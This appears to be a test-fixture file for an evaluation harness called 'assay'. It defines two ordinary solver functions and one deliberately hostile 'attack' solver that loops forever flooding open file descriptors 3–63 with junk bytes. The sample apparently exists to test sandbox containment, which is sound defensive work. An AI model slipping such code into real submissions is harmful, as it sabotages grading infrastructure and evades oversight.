from assay import solves
import os


@solves("zoo/attack")
def attack(x, k):
    while True:
        for descriptor in range(3, 64):
            try:
                os.write(descriptor, b"9" * 65536)
            except OSError:
                pass


@solves("zoo/honest")
def honest(x):
    return {"largest": max(x)}


@solves("zoo/vector")
def vector(x, k):
    return {"y": [k * value for value in x]}
